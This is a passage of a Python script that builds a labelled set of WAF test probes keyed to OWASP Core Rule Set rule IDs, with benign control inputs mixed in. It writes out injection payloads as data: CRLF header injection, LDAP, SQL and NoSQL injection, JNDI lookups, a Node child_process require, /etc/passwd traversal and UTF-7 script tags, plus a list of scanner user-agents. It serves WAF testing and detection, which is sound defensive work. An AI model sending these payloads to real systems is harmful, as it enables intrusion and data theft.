        body=f"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{fn}\"\r\nContent-Type: text/plain\r\n\r\nx\r\n--XyZ--\r\n", note=fn)
C = "java-benign"
for v in ["Java runtime environment download", "${name}", "${price}", "I use Java.lang docs", "java.util.List tutorial", "Runtime error help",
          "ProcessBuilder docs", "class.module notes", "#{user.name}", "${user.firstName}", "Jndi explained", "rO0 pattern", "serialized data format",
          "org.apache.commons.lang3", "com.example.app", "Spring Boot guide", "groovy music", "${1}", "T(x) notation", "%{name}"]:
    get(C, "-", False, v)

# ---------------- 921 protocol attacks ----------------
C = "proto-attack"
for v in ["x\r\nSet-Cookie: a=b", "x\r\nLocation: http://evil", "x%0d%0aContent-Length:%200", "x\r\n\r\n<html>injected</html>",
          "x\r\nHTTP/1.1 200 OK", "GET /admin HTTP/1.1\r\nHost: x", "x\nX-Forwarded-For: 127.0.0.1", "x\r\nRefresh: 0;url=http://evil",
          "x\r\nContent-Type: text/html", "x\r\nAccess-Control-Allow-Origin: *", "x\r\n<meta http-equiv=refresh>"]:
    get(C, "921110-921160", True, v)
add(C, "921150", True, uri="/?a%0d%0ab=1")
add(C, "921190", True, uri="/a%0d%0ab/c")
add(C, "921140", True, uri="/", headers={"X-Test": "a\r\nInjected: yes"})
add(C, "921110", True, method="POST", uri="/submit", headers={"Content-Type": "application/x-www-form-urlencoded"},
    body="a=1&b=GET%20/secret%20HTTP/1.1%0d%0aHost:%20x")
C = "ldap"
for v in ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "x)(|(password=*))", "*))%00", "admin)(!(&(1=0", "*()|&'", ")(cn=*)"]:
    get(C, "921200", True, v, name="user")
C = "proto-benign"
for v in ["line1\nline2", "Dear team,\r\nthanks", "(see above)", "smile :)", "a(b)c", "f(x) = (x+1)", "(*) footnote", "user (admin)", "|pipe|"]:
    form(C, "-", False, v)

# ---------------- 920/911 protocol policy ----------------
C = "protocol"
add(C, "911100", True, method="TRACE", uri="/")
add(C, "911100", True, method="PUT", uri="/x")
add(C, "911100", True, method="DELETE", uri="/x")
add(C, "911100", True, method="PROPFIND", uri="/")
add(C, "920170", True, method="GET", uri="/", headers={"Content-Length": "5"}, body="hello")
add(C, "920171", True, method="GET", uri="/", headers={"Transfer-Encoding": "chunked"}, body="0\r\n\r\n")
add(C, "920180", True, method="POST", uri="/submit", headers={"Content-Type": "application/x-www-form-urlencoded"}, body=None)
add(C, "920181", True, method="POST", uri="/submit", headers={"Content-Type": "application/x-www-form-urlencoded", "Content-Length": "3", "Transfer-Encoding": "chunked"}, body="a=1")
add(C, "920210", True, uri="/", headers={"Connection": "keep-alive, close"})
add(C, "920220", True, uri="/?x=%1G%zz")
add(C, "920220", True, uri="/a%")
add(C, "920240", True, method="POST", uri="/submit", headers={"Content-Type": "application/x-www-form-urlencoded"}, body="a=%1G%2")
add(C, "920280", True, uri="/", headers={"Host": None})
add(C, "920290", True, uri="/", headers={"Host": ""})
add(C, "920310", True, uri="/", headers={"Accept": ""})
add(C, "920311", True, uri="/", headers={"Accept": "", "User-Agent": None})
add(C, "920320", True, uri="/", headers={"User-Agent": None})
add(C, "920330", True, uri="/", headers={"User-Agent": ""})
add(C, "920340", True, method="POST", uri="/submit", headers={"Content-Length": "3"}, body="a=1")
add(C, "920350", True, uri="/", headers={"Host": "203.0.113.9"})
add(C, "920360", True, uri="/?" + "a" * 150 + "=1")
add(C, "920370", True, uri="/?a=" + "b" * 500)
add(C, "920380", True, uri="/?" + "&".join(f"p{i}=1" for i in range(300)))
add(C, "920390", True, method="POST", uri="/submit", headers={"Content-Type": "application/x-www-form-urlencoded"}, body="&".join(f"f{i}=" + "x" * 390 for i in range(170)))
add(C, "920420", True, method="POST", uri="/submit", headers={"Content-Type": "text/plain"}, body="hello")
add(C, "920420", True, method="POST", uri="/submit", headers={"Content-Type": "application/x-foo"}, body="hello")
add(C, "920420", True, method="POST", uri="/submit", headers={"Content-Type": "application/octet-stream"}, body="hello")
add(C, "920420", True, method="POST", uri="/submit", headers={"Content-Type": "application/x-yaml"}, body="a: 1")
add(C, "920430", True, uri="/", note="HTTP/3.0 version (engine has no version target)")
out[-1]["version"] = "HTTP/3.0"
for ext in ["/x.bak", "/x.old", "/x.sql", "/x.cer", "/x.com", "/x.dat", "/x.db", "/x.key", "/x.lnk", "/x.log", "/x.mdb", "/x.ini", "/x.conf", "/x.inc", "/x.pwd", "/x.rdb", "/x.swp", "/x.config"]:
    add(C, "920440", True, uri=ext, note=ext)
for hn, hv in [("Proxy", "http://evil/"), ("X-HTTP-Method-Override", "DELETE"), ("X-HTTP-Method", "PUT"), ("X-Method-Override", "PUT"),
               ("X-Middleware-Subrequest", "middleware:middleware:middleware"), ("Content-Encoding", "gzip"), ("Lock-Token", "<x>"),
               ("Content-Range", "bytes 0-1/2"), ("If", "(<urn:x>)"), ("Expect", "100-continue")]:
    add(C, "920450", True, uri="/", headers={hn: hv}, note=f"{hn}: {hv}")
add(C, "920470", True, method="POST", uri="/submit", headers={"Content-Type": "application/x-www-form-urlencoded; charset=utf-8<script>"}, body="a=1")
add(C, "920480", True, method="POST", uri="/submit", headers={"Content-Type": "application/x-www-form-urlencoded; charset=big5"}, body="a=1")
add(C, "920480", True, method="POST", uri="/submit", headers={"Content-Type": "application/x-www-form-urlencoded; charset=shift_jis"}, body="a=1")
add(C, "920480", True, method="POST", uri="/submit", headers={"Content-Type": "application/x-www-form-urlencoded; charset=utf-7"}, body="a=1")
add(C, "920530", True, method="POST", uri="/submit", headers={"Content-Type": "application/x-www-form-urlencoded; charset=utf-8; charset=utf-7"}, body="a=1")
add(C, "920500", True, uri="/index.php~")
add(C, "920500", True, uri="/backup/index.html~/")
add(C, "920520", True, uri="/", headers={"Accept-Encoding": "gzip, " * 40 + "br"})
add(C, "920600", True, uri="/", headers={"Accept": "text/html;q=<script>"})
add(C, "920190", True, uri="/", headers={"Range": "bytes=10-5"})
add(C, "920200", True, uri="/", headers={"Range": "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13"})
add(C, "920260", True, uri="/?x=%uff1cscript%uff1e")
add(C, "920270", True, uri="/?x=a%00b")
add(C, "920540", True, uri="/?x=\\u0061lert(1)")
add(C, "920610", True, uri="/index.html#frag")
add(C, "920620", True, method="POST", uri="/submit", headers={"Content-Type": "application/json", "Content-Length": "2", "Transfer-Encoding": "chunked"}, body="{}")
add(C, "920630", True, method="POST", uri="/submit", headers={"Content-Type": "application/json", "Transfer-Encoding": "gzip, chunked"}, body="{}")
C = "protocol-benign"
add(C, "-", False, method="OPTIONS", uri="/")
add(C, "-", False, method="HEAD", uri="/")
add(C, "-", False, method="POST", uri="/submit", headers={"Content-Type": "application/x-www-form-urlencoded", "Content-Length": "3"}, body="a=1")
add(C, "-", False, method="POST", uri="/api", headers={"Content-Type": "application/json; charset=utf-8"}, body="{\"a\":1}")
add(C, "-", False, method="POST", uri="/upload", headers={"Content-Type": "multipart/form-data; boundary=XyZ"},
    body="--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"photo.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nJFIF\r\n--XyZ--\r\n")
add(C, "-", False, method="POST", uri="/upload", headers={"Content-Type": "multipart/form-data; boundary=XyZ"},
    body="--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"report.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\r\n--XyZ--\r\n")
add(C, "-", False, uri="/", headers={"Connection": "keep-alive"})
add(C, "-", False, uri="/", headers={"Accept": "*/*"})
add(C, "-", False, uri="/", headers={"Range": "bytes=0-1023"})
add(C, "-", False, uri="/?q=" + "word+" * 60)
add(C, "-", False, uri="/?" + "&".join(f"f{i}=1" for i in range(40)))
add(C, "-", False, uri="/download/app.exe")
add(C, "-", False, uri="/files/data.csv")
add(C, "-", False, uri="/?utf=%E2%9C%93&name=Jos%C3%A9")
add(C, "-", False, uri="/", headers={"Accept-Encoding": "gzip, deflate, br, zstd"})
add(C, "-", False, uri="/", headers={"If-None-Match": "\"abc\"", "If-Modified-Since": "Wed, 21 Oct 2015 07:28:00 GMT"})
add(C, "-", False, method="PUT", uri="/api/items/1", headers={"Content-Type": "application/json"}, body="{\"a\":1}")
add(C, "-", False, method="PATCH", uri="/api/items/1", headers={"Content-Type": "application/json"}, body="{\"a\":1}")
add(C, "-", False, method="DELETE", uri="/api/items/1")

# ---------------- 913 scanners ----------------
C = "scanner"
for ua in ["Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "nmap", "sqlmap/1.7.2#stable (https://sqlmap.org)",
           "Nikto/2.5.0", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "Wfuzz/3.1.0", "Fuzz Faster U Fool v2.1.0", "gobuster/3.6",
           "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
           "Detectify", "Mozilla/5.0 (compatible; Nettacker)", "wapiti/3.1.8", "Arachni/v1.5.1", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1) Havij",
           "commix/v3.9", "Mozilla/5.0 (compatible; Nessus)", "OpenVAS-VT", "masscan/1.3", "zgrab/0.x", "Mozilla/5.g", "jSQL Injection", "Ghauri",
           "xsser/1.8", "joomscan", "droopescan", "cmsmap", "TsunamiSecurityScanner", "sysscan", "WhatWaf", "Mozilla/5.0 (X11) Vega/1.0", "DotDotPwn v3.0",
           "SSTImap", "tplmap", "Mozilla/4.0 (Hydra)", "graphw00f", "TruffleHog", "YesWeHack-Hunter", "User-Agent: foo", "Mozilla/5.0 (compatible; AppScan; IBM)"]:
    hdr(C, "913100", True, "User-Agent", ua)
C = "scanner-benign"
for ua in ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36", "curl/8.5.0",
           "python-requests/2.31.0", "Go-http-client/1.1", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
           "okhttp/4.12.0", "Wget/1.21.4", "PostmanRuntime/7.36.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
           "Vegan recipes app/1.0", "kube-probe/1.29", "Mozilla/5.0 (compatible; bingbot/2.0)"]:
    hdr(C, "-", False, "User-Agent", ua)

# ---------------- v4-specific extras ----------------
C = "v4-extra"
get(C, "921110", True, "GET /admin HTTP/1.1", name="a", note="request line without CRLF")
form(C, "921110", True, "x POST /internal/api HTTP/1.0", name="data")
get(C, "921130", True, "<html><body>injected</body></html>", name="msg")
get(C, "921130", True, "foo HTTP/1.1 200 OK", name="msg")
add(C, "921140", True, uri="/", headers={"X-Forwarded-Host": "a%0d%0aSet-Cookie:%20x=1"}, note="urlencoded CRLF in header")
add(C, "921421", True, method="POST", uri="/submit", headers={"Content-Type": "application/x-www-form-urlencoded; boundary=application/json"}, body="a=1")
add(C, "921421", True, method="POST", uri="/submit", headers={"Content-Type": "text/plain, application/xml"}, body="<a/>")
add(C, "921250", True, uri="/", headers={"Cookie": "$Version=1; session=abc"})
get(C, "941180", True, "<!-- x -->", name="c")
get(C, "941180", True, "<![CDATA[x]]>", name="c")
get(C, "941180", True, "a.parentNode.removeChild(a)", name="c")
get(C, "941350", True, "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", name="c")
get(C, "941170", True, "@\\im\\port'//evil/x.css'", name="c")
get(C, "944150", True, "&dollar;&lbrace;jndi:ldap://x/a}", name="c")
get(C, "944150", True, "${ctx:loginId}", name="c")
get(C, "944130", True, "com.opensymphony.xwork2.ActionContext", name="c")
get(C, "944130", True, "java.io.BufferedReader", name="c")
get(C, "944130", True, "java.lang.StringBuilder", name="c")
get(C, "944130", True, "org.apache.struts2.ServletActionContext", name="c")
get(C, "944130", True, "org.omg.CORBA.ORB", name="c")
js(C, "934130", True, {"x": {"constructor": {"prototype": {"y": 1}}}}, note="nested JSON keys constructor>prototype")
add(C, "934100", True, uri="/process.mainModule.require('child_process')", note="node payload in path (REQUEST_FILENAME)")
get(C, "934170", True, "data:text/html,hello", name="src")
get(C, "934170", True, "data:application/json;base64,e30=", name="src")
get(C, "933200", True, "zlib:///etc/passwd", name="f")
get(C, "933200", True, "ph'a'r://x/y", name="f")
get(C, "930110", True, "/var/www/.../...//etc", name="f")
get(C, "942160", True, "sleep(__TIME__)", name="id")
get(C, "942151", True, "aes_decrypt(x,y)", name="id")
get(C, "942151", True, "from_base64('eA==')", name="id")
get(C, "942140", True, "select * from northwind", name="id")
get(C, "942140", True, "db_name()", name="id")
get(C, "942270", True, "union all distinct select x from y", name="id")
get(C, "942290", True, "{\"username\":{\"$ne\":null}}", name="id")
add(C, "942290", True, uri="/login?user[$ne]=x&pass[$ne]=y", note="mongo operator in arg name")
js(C, "942290", True, {"user": {"$regex": ".*"}, "pass": {"$gt": ""}}, note="mongo operators as JSON keys")
get(C, "942320", True, "1::text", name="id")
get(C, "942320", True, "div(1,1)", name="id")
get(C, "942500", True, "/*!*/", name="id")
get(C, "942500", True, "/*+ BKA(t1) */", name="id")
add(C, "920100", True, uri="/index.html?a=b c", note="space in request target (invalid request line)")
add(C, "920640", True, method="POST", uri="/submit", headers={"Content-Length": None}, body="a=1", note="body without Content-Type")
add(C, "920660", True, uri="/", headers={"Request-Range": "bytes=0-1"})
add(C, "920470", True, method="POST", uri="/api", headers={"Content-Type": "application/json; foo=bar"}, body="{}")
add(C, "922100", True, method="POST", uri="/upload", headers={"Content-Type": "multipart/form-data; boundary=XyZ"},
    body="--XyZ\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nutf-7\r\n--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--XyZ--\r\n")
add(C, "922120", True, method="POST", uri="/upload", headers={"Content-Type": "multipart/form-data; boundary=XyZ"},
    body="--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: 7bit\r\n\r\nb\r\n--XyZ--\r\n")
add(C, "922110", True, method="POST", uri="/upload", headers={"Content-Type": "multipart/form-data; boundary=XyZ"},
    body="--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nb\r\n--XyZ--\r\n")
C = "v4-extra-benign"
get(C, "-", False, "<p>see https://example.com</p>", name="c")
get(C, "-", False, "HTTP status codes explained", name="c")
get(C, "-", False, "Get the latest news", name="c")
get(C, "-", False, "The String class in Java", name="c")
get(C, "-", False, "I slept (a lot)", name="c")
get(C, "-", False, "data: none", name="c")
add(C, "-", False, method="POST", uri="/api", headers={"Content-Type": "application/json; charset=utf-8"}, body="{\"a\": \"b\"}")
add(C, "-", False, method="POST", uri="/submit", headers={"Content-Type": "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
    body="------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n")
js(C, "-", False, {"user": {"name": "bob", "price": "$5", "tags": ["a", "b"]}})

with open(sys.argv[1] if len(sys.argv) > 1 else "probes.jsonl", "w") as f:
    for r in out:
        f.write(json.dumps(r, ensure_ascii=False) + "\n")
print(len(out), "probes;", sum(r["expect_trigger"] for r in out), "attacks")
